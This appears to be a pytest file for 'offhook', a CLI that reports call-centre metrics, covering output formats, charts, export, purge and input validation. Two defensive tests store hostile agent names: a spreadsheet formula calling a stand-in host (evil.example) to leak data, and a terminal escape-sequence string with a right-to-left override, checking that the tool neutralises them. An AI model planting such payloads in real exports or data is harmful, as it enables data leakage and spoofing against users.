"""`offhook report`, `offhook metrics export|purge`: output formats, charts, bad input (exit 2, one line)."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import subprocess
import sys
from datetime import date, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from rich.cells import cell_len

from offhook.cli import main
from offhook.metrics.store import CallRecorder
from tests.metrics.calls import play
from tests.metrics.test_report import ann_day

OFFHOOK = Path(sys.executable).with_name("offhook")


@pytest.fixture
def store_path(data_dir: Path) -> Path:
    with CallRecorder() as rec:
        ann_day(rec)
        return rec.path


def fingerprint(path: Path) -> list[str]:
    """The store and its WAL, byte for byte."""
    files = (path, path.with_name(path.name + "-wal"))
    return [hashlib.sha256(f.read_bytes()).hexdigest() if f.exists() else "" for f in files]


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def test_json_and_csv_agree(store_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "report", "--by", "agent", "--format", "json")
    assert code == 0
    data = json.loads(out)
    assert "talk + hold + wrap-up" in data["definition"]
    assert data["groups"][0]["group"] == "ann"
    assert data["total"]["aht_s"] == 302.75 and data["total"]["long_holds"] == 2
    code, out, _ = run(capsys, "report", "--db", str(store_path), "--format", "csv", "--by", "day")
    assert code == 0
    table = list(csv.DictReader(io.StringIO(out)))
    assert [row["group"] for row in table] == ["2026-03-10", "total"]
    assert float(table[-1]["aht_s"]) == 302.75 and float(table[-1]["ring_p90_s"]) == 17.0


def test_table_on_a_pipe_has_no_colour(store_path: Path) -> None:
    result = subprocess.run(
        [OFFHOOK, "report", "--by", "day", "--db", str(store_path)], capture_output=True, text=True, timeout=60
    )
    assert result.returncode == 0, result.stderr
    assert "\x1b[" not in result.stdout
    assert "2026-03-10" in result.stdout and "5:03" in result.stdout  # AHT 302.75 s


def test_help_gives_the_aht_definition(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exit_info:
        main(["report", "--help"])
    assert exit_info.value.code == 0
    text = " ".join(capsys.readouterr().out.split())
    assert "AHT (talk + hold + wrap-up) summed over handled calls / number of handled calls" in text
    assert "including calls later transferred or escalated" in text


def test_chart_is_a_png(store_path: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    chart = tmp_path / "aht.png"
    code, _, err = run(capsys, "report", "--by", "agent", "--format", "csv", "--chart", str(chart))
    assert code == 0, err
    assert chart.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    assert chart.stat().st_size > 10_000


def test_export_then_report_on_a_team(store_path: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    bob_store = tmp_path / "bob.sqlite3"
    with CallRecorder(bob_store) as bob:
        bob.ringing("b1", agent="bob", direction="inbound", number=None, tz="UTC", wall=1773133200.0, mono=1.0)
        bob.missed("b1", wall=1773133210.0, mono=11.0)
    exported = tmp_path / "ann.offhook"
    code, out, _ = run(capsys, "metrics", "export", str(exported), "--agent", "ann")
    assert code == 0 and "exported 6 calls" in out
    code, out, _ = run(capsys, "report", str(exported), str(bob_store), "--by", "agent", "--format", "json")
    assert code == 0
    assert [(g["group"], g["calls"]) for g in json.loads(out)["groups"]] == [("ann", 6), ("bob", 1)]


def test_purge_command(store_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "metrics", "purge", "--older-than", "0")
    assert code == 0 and "deleted 6 calls" in out
    code, out, _ = run(capsys, "report", "--format", "json")
    assert json.loads(out)["total"]["calls"] == 0


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["report", "--by", "week"], "--by must be day, hour or agent, not 'week'"),
        (["report", "--since", "2026-02-30"], "--since '2026-02-30' is not a date (use YYYY-MM-DD)"),
        (["report", "--until", "yesterday"], "--until 'yesterday' is not a date (use YYYY-MM-DD)"),
        (["report", "--since", "2026-03-11", "--until", "2026-03-10"], "--since 2026-03-11 is after --until"),
        (["report", "--format", "xml"], "--format must be table, csv or json"),
        (["report", "--chart", "out.svg"], "must be a .png file"),
        (["report", "--chart", "/no/such/dir/out.png"], "no such directory"),
        (["report", "--chart", "/proc/self/out.png"], "cannot write in /proc/self"),  # unwritable, even for root
        (["report", "--db", "/no/such/metrics.sqlite3"], "no metrics database at /no/such/metrics.sqlite3"),
        (["metrics", "purge", "--older-than", "-3"], "must be zero or more days"),
        (["metrics", "purge", "--older-than", "soon"], "is not a number of days"),
        (["metrics", "purge", "--db", "/no/such.sqlite3"], "no metrics database"),
        (["metrics", "export", "/no/such/dir/x.offhook"], "no such directory"),
    ],
)
def test_bad_input_is_one_line_exit_2_and_changes_nothing(
    store_path: Path, capsys: pytest.CaptureFixture[str], argv: list[str], message: str
) -> None:
    before = fingerprint(store_path)
    code, out, err = run(capsys, *argv)
    assert code == 2
    assert out == ""
    assert err.startswith("offhook: error: ") and err.count("\n") == 1
    assert message in err
    assert fingerprint(store_path) == before


def test_missing_default_store_is_exit_2(data_dir: Path) -> None:
    result = subprocess.run([OFFHOOK, "report"], capture_output=True, text=True, timeout=60)
    assert result.returncode == 2
    assert result.stderr == f"offhook: error: no metrics database at {data_dir / 'metrics.sqlite3'}\n"
    assert not data_dir.exists()  # reading never creates a store


def test_export_refuses_to_overwrite(store_path: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    target = tmp_path / "x.offhook"
    target.write_text("keep me")
    code, _, err = run(capsys, "metrics", "export", str(target))
    assert code == 2 and "exists (use --force" in err
    assert target.read_text() == "keep me"


def test_panel_without_a_daemon_fails_in_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    import socket

    with socket.socket() as probe:  # a port nobody listens on
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    code, out, err = run(capsys, "panel", "--api-port", str(port), "--print-url")
    assert code == 1 and out == ""
    assert err.startswith(f"offhook: error: no daemon answers on 127.0.0.1:{port}") and err.count("\n") == 1
    code, _, err = run(capsys, "panel", "--api-port", "70000")
    assert code == 2 and "is not a port number" in err


ANSI = re.compile(r"\x1b\[[0-9;]*m")
START = datetime(2026, 3, 10, 9, 0, tzinfo=ZoneInfo("Europe/Berlin"))


def agents_store(names: list[str]) -> None:
    """One handled call for each agent name, in the data dir's store."""
    with CallRecorder() as rec:
        for i, name in enumerate(names):
            play(rec, f"call-{i}", START, [("answered", 3), ("hung_up", 63), ("wrap_up_ended", 70)], agent=name)


def on_terminal(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], width: int, *argv: str) -> str:
    """Run as if on a terminal ``width`` columns wide; the output without colour codes."""
    monkeypatch.setenv("COLUMNS", str(width))
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
    code, out, err = run(capsys, *argv)
    assert code == 0, err
    return ANSI.sub("", out)


def test_markup_in_agent_names_is_printed_as_it_is(data_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    agents_store(["[/bold]x", "Ann [night shift]", "[red]bob"])
    code, out, err = run(capsys, "report", "--by", "agent")
    assert code == 0, err
    for name in ("[/bold]x", "Ann [night shift]", "[red]bob"):
        assert name in out
    code, out, err = run(capsys, "report", "--agent", "Ann [night shift]")
    assert code == 0 and "agent Ann [night shift]" in out


def test_csv_neutralises_formulas(data_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    names = ['=HYPERLINK("http://evil.example/?leak","click")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rcr", "ann"]
    agents_store(names)
    code, out, _ = run(capsys, "report", "--by", "agent", "--format", "csv")
    assert code == 0
    groups = [row["group"] for row in csv.DictReader(io.StringIO(out))][:-1]
    assert len(groups) == len(names)
    for group in groups:
        assert group[0] not in "=+-@\t\r", group
    assert '\'=HYPERLINK("http://evil.example/?leak","click")' in groups
    assert {"'+1", "'-2+3", "'@SUM(A1)", "ann"} <= set(groups)


def test_control_characters_never_reach_the_terminal(data_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    evil = "eve\x1b]0;owned\x07\x1b[2J\x9b31m\u202egnp.exe\x08"
    agents_store([evil])
    for argv in (["--by", "agent"], ["--by", "agent", "--format", "csv"], ["--format", "json", "--by", "agent"]):
        code, out, err = run(capsys, "report", *argv)
        assert code == 0, err
        assert "eve" in out
        for control in ("\x1b", "\x07", "\x9b", "\u202e", "\x08"):
            assert control not in out + err, (argv, out)
    code, out, err = run(capsys, "report", "--agent", evil)
    assert code == 0 and "\x1b" not in out + err


def _cells(path: Path, by: str, since: str | None) -> list[str]:
    """Every figure the table shows, as it shows it (from the unrounded figures, as the table has them)."""
    from offhook.commands.metrics import _duration
    from offhook.metrics.report import ReportQuery, build, open_sources

    day = date.fromisoformat(since) if since else None
    sources = open_sources([path])
    try:
        result = build(sources, ReportQuery(since=day, until=day, by=by))
    finally:
        for conn in sources:
            conn.close()
    cells = []
    for row in [*result.rows, result.total]:
        cells += map(str, (row.calls, row.handled, row.missed, row.abandoned, row.escalated, row.transferred))
        cells += [str(row.long_holds), f"{row.missed_rate:.1%}", _duration(row.aht_s)]
        for spread in (row.ring, row.talk, row.hold, row.wrap):
            cells += [_duration(spread.mean), _duration(spread.median), _duration(spread.p90)]
        cells += row.group.replace("T", " ").split()
    return cells


@pytest.mark.parametrize("width", [80, 60])
@pytest.mark.parametrize("by", ["day", "hour", "agent"])
def test_table_never_cuts_a_number_or_a_group(
    data_dir: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], width: int, by: str
) -> None:
    from tests.bench.bench_metrics import generate

    data_dir.mkdir(parents=True)
    generate(data_dir / "metrics.sqlite3", calls=40_000)  # four- and five-digit counts, five time zones
    since = "2026-03-01" if by == "hour" else None
    argv = ["report", "--by", by, *(["--since", since, "--until", since] if since else [])]
    expected = _cells(data_dir / "metrics.sqlite3", by, since)
    table = on_terminal(monkeypatch, capsys, width, *argv)
    assert "…" not in table
    assert max(cell_len(line) for line in table.splitlines()) <= width
    shown = set(re.split(r"[\s│┃┏┓┗┛━─┡┩┼╇╈╋╀╁┿┯┷┠┨┣┫┳┻╸╹╺╻┄┅╍╌┝┥|/]+", table))
    missing = [cell for cell in expected if cell not in shown]
    assert not missing, f"cut or folded: {missing[:10]}\n{table}"


def test_same_agent_name_in_two_stores_is_a_warning(
    data_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    agents_store(["ann"])
    with CallRecorder(tmp_path / "other.sqlite3") as other:
        play(other, "other-1", START, [("missed", 5)])
    code, out, err = run(
        capsys,
        "report",
        "--db",
        str(data_dir / "metrics.sqlite3"),
        "--db",
        str(tmp_path / "other.sqlite3"),
        "--by",
        "agent",
        "--format",
        "json",
    )
    assert code == 0
    assert err.startswith("offhook: warning: ") and err.count("\n") == 1 and "'ann'" in err
    assert sorted(group["calls"] for group in json.loads(out)["groups"]) == [1, 1]


def test_table_title_states_the_dates(store_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for argv, dates in (
        ([], "2026-03-10 to 2026-03-10"),  # the calls' own days
        (["--since", "2026-03-01"], "2026-03-01 to 2026-03-10"),
        (["--since", "2030-01-01"], "from 2030-01-01"),  # nothing found: the open end stays open
        (["--until", "2020-01-01"], "until 2020-01-01"),
    ):
        code, out, _ = run(capsys, "report", *argv)
        assert code == 0 and f"Call metrics ({dates})" in out and "None" not in out
